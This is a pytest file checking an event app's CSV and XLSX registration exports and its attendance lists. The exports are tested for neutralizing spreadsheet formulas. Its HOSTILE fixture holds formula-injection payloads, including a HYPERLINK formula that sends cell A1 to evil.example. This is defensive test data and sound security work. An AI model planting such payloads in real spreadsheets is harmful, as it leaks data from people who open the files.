"""Registrations exported as CSV and XLSX, read back as a spreadsheet would read them, and
the printable attendance lists."""
import csv
import io
import re
from datetime import datetime

import lxml.html
import openpyxl
import pytest

from eventapp.extensions import db
from eventapp.models import RegistrationStatus
from eventapp.registration.exports import neutralize
from tests.registration.manage_support import (  # noqa: F401  (fixtures)
    HOLDING,
    WAITLISTED,
    add_registration,
    audit_entries,
    fresh,
    signed_in_fixture,
    workshop_fixture,
)

HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "organization": "+1",
    "position": "-1",
    "dietary": "@SUM(A1)",
    "phone": "\t=1+1",
    "department": "\r=1+1",
}


@pytest.fixture
def registrations(workshop):
    add_registration(workshop.event_id, "Nguyễn Văn A",
                     organization="Bộ Văn hoá, Thể thao và Du lịch",
                     email="a@example.org", sessions=[(workshop.film, HOLDING)],
                     position="Vụ trưởng", checked_in=True)
    add_registration(workshop.event_id, "Đặng Thị Bích", email="b@example.org",
                     status=RegistrationStatus.WAITLISTED, sessions=[(workshop.film, WAITLISTED)])
    add_registration(workshop.event_id, HOSTILE["full_name"], email="evil@example.org",
                     organization=HOSTILE["organization"], position=HOSTILE["position"],
                     dietary=HOSTILE["dietary"], phone=HOSTILE["phone"],
                     department=HOSTILE["department"])
    db.session.commit()


def read_csv(response) -> list[dict]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export(signed_in, workshop, registrations):
    response = signed_in.get(f"{workshop.list_url}/export.csv?sort=oldest")

    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=registrations-")
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = read_csv(response)
    assert [row["Full name"] for row in rows[:2]] == ["Nguyễn Văn A", "Đặng Thị Bích"]
    first = rows[0]
    assert first["Organization"] == "Bộ Văn hoá, Thể thao và Du lịch"
    assert first["Status"] == "Confirmed"
    assert first["Sessions"] == "Film and streaming"
    assert first["Position"] == "Vụ trưởng"
    assert first["Checked in at"]
    assert rows[1]["Sessions"] == "Film and streaming (waiting list)"
    assert b"\r\n" in response.get_data()
    assert audit_entries("registrations.export_csv")[-1].actor == "organizer@example.org"


def test_csv_neutralizes_formulas(signed_in, workshop, registrations):
    rows = read_csv(signed_in.get(f"{workshop.list_url}/export.csv?q=evil"))
    assert len(rows) == 1
    row = rows[0]
    assert row["Full name"] == "'" + HOSTILE["full_name"]
    assert row["Organization"] == "'+1"
    assert row["Position"] == "'-1"
    assert row["Dietary requirements"] == "'@SUM(A1)"
    assert row["Phone"] == "'\t=1+1"
    assert row["Department"] == "'\r=1+1"
    # Numbers stay numbers: only text is touched.
    assert row["Registration"].isdigit()


def test_csv_follows_the_filter(signed_in, workshop, registrations):
    rows = read_csv(signed_in.get(f"{workshop.list_url}/export.csv?status=waitlisted"))
    assert [row["Full name"] for row in rows] == ["Đặng Thị Bích"]


def read_xlsx(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return sheet, header, [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_xlsx_export(signed_in, workshop, registrations):
    response = signed_in.get(f"{workshop.list_url}/export.xlsx?sort=oldest")

    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith(".xlsx")
    sheet, header, rows = read_xlsx(response)
    assert sheet.title == "Registrations"
    assert header[:5] == ["Registration", "Status", "Registered at", "Title", "Full name"]
    first = rows[0]
    assert first["Full name"].value == "Nguyễn Văn A"
    assert isinstance(first["Registration"].value, int)
    assert isinstance(first["Registered at"].value, datetime)
    assert isinstance(first["Checked in at"].value, datetime)
    assert first["Sessions"].value == "Film and streaming"


def test_xlsx_neutralizes_formulas(signed_in, workshop, registrations):
    _, _, rows = read_xlsx(signed_in.get(f"{workshop.list_url}/export.xlsx?q=evil"))
    row = rows[0]
    for column, value in [("Full name", HOSTILE["full_name"]), ("Organization", "+1"),
                          ("Position", "-1"), ("Dietary requirements", "@SUM(A1)")]:
        assert row[column].data_type == "s", column
        assert row[column].value == "'" + value
    assert not any(cell.data_type == "f" for cell in row.values())


def test_neutralize_leaves_harmless_values_alone():
    assert neutralize("Nguyễn Văn A") == "Nguyễn Văn A"
    assert neutralize("a=b") == "a=b"
    assert neutralize("") == ""
    assert neutralize(-1) == -1
    assert neutralize(None) is None


def test_exports_stream_many_rows_in_batches(signed_in, workshop, monkeypatch):
    """More rows than one batch: every row once, in order, across the batch boundaries."""
    from eventapp.registration import exports

    monkeypatch.setattr(exports, "BATCH_SIZE", 7)
    for n in range(30):
        add_registration(workshop.event_id, f"Người {n:02d}", email=f"p{n:02d}@example.org")
    db.session.commit()

    rows = read_csv(signed_in.get(f"{workshop.list_url}/export.csv?sort=name"))
    _, _, xlsx_rows = read_xlsx(signed_in.get(f"{workshop.list_url}/export.xlsx?sort=name"))

    expected = [f"Người {n:02d}" for n in range(30)]
    assert [row["Full name"] for row in rows] == expected
    assert [row["Full name"].value for row in xlsx_rows] == expected


def test_control_characters_do_not_break_the_workbook(signed_in, workshop):
    add_registration(workshop.event_id, "Nguyễn\x07 Văn A", email="bell@example.org")
    db.session.commit()
    _, _, rows = read_xlsx(signed_in.get(f"{workshop.list_url}/export.xlsx"))
    assert rows[0]["Full name"].value == "Nguyễn Văn A"


# --- Attendance lists -----------------------------------------------------------------------


def attendance_names(response) -> list[str]:
    page = lxml.html.fromstring(response.get_data(as_text=True))
    return [" ".join(th.text_content().split()) for th in page.xpath("//tbody/tr/th")]


def test_a_session_list_has_its_seated_people_in_vietnamese_order(signed_in, workshop):
    for name in ["Phạm Duy", "Đặng Hữu Dũng", "Trần Thị Bình", "Lê Văn Ánh", "Nguyễn Văn An"]:
        add_registration(workshop.event_id, name, sessions=[(workshop.film, HOLDING)])
    add_registration(workshop.event_id, "Hoàng Văn Chờ", status=RegistrationStatus.WAITLISTED,
                     sessions=[(workshop.film, WAITLISTED)])
    add_registration(workshop.event_id, "Vũ Thị Khác", sessions=[(workshop.ip, HOLDING)])
    add_registration(workshop.event_id, "Bùi Đã Huỷ", status=RegistrationStatus.CANCELLED)
    db.session.commit()

    response = signed_in.get(f"{workshop.base}/sessions/{workshop.film}/attendance")

    assert response.status_code == 200
    # By given name (the last word), the Vietnamese alphabet: a < ă < â, d < đ.
    assert attendance_names(response) == [
        "Nguyễn Văn An", "Lê Văn Ánh", "Trần Thị Bình", "Đặng Hữu Dũng", "Phạm Duy"
    ]
    html = response.get_data(as_text=True)
    assert "Signature" in html and "Film and streaming" in html
    # Nothing inline that the Content-Security-Policy would block.
    assert "style=" not in html and not re.search(r"<script(?![^>]*\bsrc=)", html)

    whole = signed_in.get(f"{workshop.base}/attendance")
    assert len(attendance_names(whole)) == 6  # every confirmed person, no session needed
